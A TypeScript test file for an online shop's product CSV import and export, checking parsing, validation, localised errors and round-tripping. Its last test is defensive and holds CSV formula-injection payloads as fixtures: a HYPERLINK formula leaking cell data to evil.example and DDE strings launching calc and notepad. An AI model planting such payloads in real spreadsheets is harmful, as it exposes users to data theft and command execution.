import { cleanup, render, screen, within } from '@testing-library/react';
import { ApiError } from 'shared-contracts/api/api-error';
import type { Category } from 'shared-contracts/domain/catalogue';
import { i18n } from 'shared-contracts/platform/i18n';
import { ShopProviders } from 'shared-contracts/ui/ShopProviders';
import './ListingPage.messages';
import { ImportReportView, problemsOf } from './ImportReport';
import { parseCsv, restoreCell, toCsv } from 'shared-contracts/csv/csv';
import { checkProductCsv, importProducts, productsToCsv } from './csv';

const categories: Category[] = [
  { id: 'cat-home', slug: 'home-decor', name: 'Home decor', description: '', parentId: null, position: 1 },
  { id: 'cat-text', slug: 'textiles', name: 'Textiles', description: '', parentId: null, position: 2 },
];

const CSV = [
  'title,slug,category,price,mrp,gstRate,hsn,stock,published,description',
  'Brass diya,brass-diya-csv,home-decor,590,,18,7418,12,true,"Hand-cast, polished"',
  'No price,,home-decor,,,12,,3,false,',
  'Silk stole,,textiles,1299.50,1500,5,,4,false,"A ""Banarasi"" stole"',
  'Bad rate,,moon-rocks,100,,7,,-1,maybe,',
].join('\n');

describe('CSV rows judged by the shared product rules', () => {
  afterEach(async () => {
    cleanup();
    await i18n.changeLanguage('en');
  });

  it('reads quoted fields, commas and doubled quotes', () => {
    expect(parseCsv('a,"b,c","d ""e"""\r\n1,2,3\n')).toEqual([
      ['a', 'b,c', 'd "e"'],
      ['1', '2', '3'],
    ]);
  });

  it('keeps the good rows (rupees to paise, category slug to id) and reports every problem of the bad ones by line', () => {
    const check = checkProductCsv(CSV, categories);
    expect(check.missingColumns).toEqual([]);
    expect(check.good.map(({ line, product }) => ({ line, ...product }))).toEqual([
      expect.objectContaining({ line: 2, title: 'Brass diya', slug: 'brass-diya-csv', categoryId: 'cat-home', price: 59000, gstRate: 18, hsn: '7418', stock: 12, published: true, description: 'Hand-cast, polished' }),
      expect.objectContaining({ line: 4, title: 'Silk stole', categoryId: 'cat-text', price: 129950, mrp: 150000, gstRate: 5, published: false, description: 'A "Banarasi" stole' }),
    ]);
    expect(check.bad).toEqual([
      { line: 3, title: 'No price', problems: [{ field: 'price', message: 'This field is required.' }] },
      {
        line: 5,
        title: 'Bad rate',
        problems: expect.arrayContaining([
          { field: 'category', message: 'No category “moon-rocks”.' },
          { field: 'published', message: 'Use true or false.' },
          { field: 'stock', message: 'Value must be greater than or equal to 0.' },
          expect.objectContaining({ field: 'gstRate' }),
        ]),
      },
    ]);
  });

  it('refuses a slug or SKU used twice in the file, and a file without the needed columns', () => {
    const twice = checkProductCsv('title,slug,category,price,gstRate,stock\nA,same,textiles,10,5,1\nB,same,textiles,10,5,1\n', categories);
    expect(twice.good.map((row) => row.line)).toEqual([2]);
    expect(twice.bad).toEqual([{ line: 3, title: 'B', problems: [{ field: 'slug', message: 'Already exists.' }] }]);
    const skuTwice = checkProductCsv('title,sku,category,price,gstRate,stock\nA,AB1,textiles,10,5,1\nB,ab1,textiles,10,5,1\n', categories);
    expect(skuTwice.bad).toEqual([{ line: 3, title: 'B', problems: [{ field: 'sku', message: 'Already exists.' }] }]);
    expect(checkProductCsv('title,price\nA,10\n', categories).missingColumns).toEqual(['category', 'gstRate', 'stock']);
  });

  it('answers in the active language', async () => {
    await i18n.changeLanguage('es');
    const check = checkProductCsv('title,category,price,gstRate,stock\nA,textiles,,5,1\n', categories);
    expect(check.bad[0]!.problems).toEqual([{ field: 'price', message: 'Este campo es obligatorio.' }]);
  });

  it('imports the good rows, adds the server’s refusals (a taken slug) to the report, in line order', async () => {
    const created: string[] = [];
    const report = await importProducts(
      checkProductCsv(CSV, categories),
      async (product) => {
        if (product.slug === 'brass-diya-csv') throw new ApiError(409, 'conflict', 'taken', { slug: ['Already exists.'] });
        created.push(product.title);
      },
      problemsOf,
    );
    expect(created).toEqual(['Silk stole']);
    expect(report.imported).toEqual([{ line: 4, title: 'Silk stole' }]);
    expect(report.rejected.map((row) => row.line)).toEqual([2, 3, 5]);
    expect(report.rejected[0]).toEqual({
      line: 2,
      title: 'Brass diya',
      problems: [
        {
          field: 'slug',
          message:
            'A product with this slug exists. The import only adds new products and leaves this one as it is, stock included: edit it in its form and change its stock with an adjustment.',
        },
      ],
    });

    render(
      <ShopProviders>
        <ImportReportView report={report} />
      </ShopProviders>,
    );
    const region = screen.getByTestId('csv-report');
    expect(within(region).getByText('1 imported, 3 rejected.')).toBeInTheDocument();
    expect(within(region).getByText('Price in rupees (incl. GST): This field is required.')).toBeInTheDocument();
    expect(within(region).getByText('Category: No category “moon-rocks”.')).toBeInTheDocument();
  });

  it('exports what it imports', () => {
    const csv = productsToCsv(
      [
        {
          id: 'p1',
          slug: 'silk-stole',
          title: 'Silk, "fine" stole',
          description: 'Two\nlines',
          categoryId: 'cat-text',
          price: 129950,
          mrp: null,
          gstRate: 5,
          hsn: null,
          stock: 4,
          images: [],
          published: true,
          sku: 'STOLE1',
          tags: ['silk', 'gift ideas'],
          attributes: [
            { key: 'material', value: 'Mulberry silk' },
            { key: 'length_cm', value: '180' },
          ],
        } as never,
      ],
      categories,
    );
    const check = checkProductCsv(csv, categories);
    expect(check.bad).toEqual([]);
    expect(check.good[0]!.product).toEqual(
      expect.objectContaining({ slug: 'silk-stole', title: 'Silk, "fine" stole', description: 'Two\nlines', categoryId: 'cat-text', price: 129950, mrp: null, stock: 4, published: true }),
    );
    expect(check.good[0]!.product).toEqual(
      expect.objectContaining({
        sku: 'STOLE1',
        tags: ['silk', 'gift ideas'],
        attributes: [
          { key: 'material', value: 'Mulberry silk' },
          { key: 'length_cm', value: '180' },
        ],
      }),
    );
  });

  it('neutralises every cell a spreadsheet would run as a formula, and imports it back exactly', () => {
    const crafted = (n: number, title: string, description: string, tags: string[], value: string) =>
      ({
        id: `p${n}`,
        slug: `crafted-${n}`,
        title,
        description,
        categoryId: 'cat-home',
        price: 10000 * n,
        mrp: null,
        gstRate: 12,
        hsn: null,
        stock: n,
        images: [],
        published: true,
        sku: null,
        tags,
        attributes: [{ key: 'note', value }],
      }) as never;
    const products = [
      crafted(1, '=HYPERLINK("http://evil.example/?"&A1,"Click")', '=1+1', ["=cmd' /C calc'!A0", 'plain'], '=2+3'),
      crafted(2, '+91 brass lamp', '-2+3+cmd|\' /C notepad\'!\'A1\'', ['+tag', '-tag'], '@SUM(1,1)'),
      crafted(3, '@SUM(A1:A9)', '@mention; =x', ['@home'], '-1'),
      crafted(4, "'=already quoted", "''", ["'+quoted"], "'"),
      crafted(5, '-5', 'a;=HYPERLINK("x");b', ['tag;=1+1'], "'plain"),
    ];
    const csv = productsToCsv(products, categories);

    // every cell as a spreadsheet reads it: none starts with a formula character, numbers aside
    const cells = parseCsv(csv).flat();
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell));
    expect(live).toEqual([]);
    // the titles, descriptions and tags cells of products 1 to 3 would have run
    const runs = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);
    const formulaLike = cells.map(restoreCell).filter(runs);
    expect(formulaLike).toHaveLength(9);
    // a cell with a ';' (the separator of spreadsheets in many locales) is quoted whole: never split into a cell '=...'
    const withSemicolon = cells.filter((cell) => cell.includes(';'));
    expect(withSemicolon.length).toBeGreaterThanOrEqual(3);
    expect(withSemicolon.filter((cell) => !csv.includes(`"${cell.replace(/"/g, '""')}"`))).toEqual([]);

    const check = checkProductCsv(csv, categories);
    expect(check.bad).toEqual([]);
    const imported = check.good.map(({ product }) => ({ title: product.title, description: product.description, tags: product.tags, attributes: product.attributes }));
    expect(imported).toEqual(
      products.map((product: { title: string; description: string; tags: string[]; attributes: unknown }) => ({
        title: product.title,
        description: product.description,
        tags: product.tags,
        attributes: product.attributes,
      })),
    );

    // tab and carriage return start a cell only through toCsv's callers' raw text: neutralised, restored exactly
    const raw = [['\tTAB', '\r=CR', '=', "'", "''", "'=", 'x=1', '-7', '-7.5', '-', '+', '@']];
    const back = parseCsv(toCsv(raw)).map((row) => row.map(restoreCell));
    expect(back).toEqual(raw);
    expect(parseCsv(toCsv(raw)).flat().filter(runs)).toEqual([]);
    console.log(
      `CSV formula cells: ${cells.length + raw[0]!.length} cells checked (${formulaLike.length + raw[0]!.filter(runs).length} formula-like), ${live.length} live formulas; ${products.length} crafted products round-tripped exactly`,
    );
  });
});
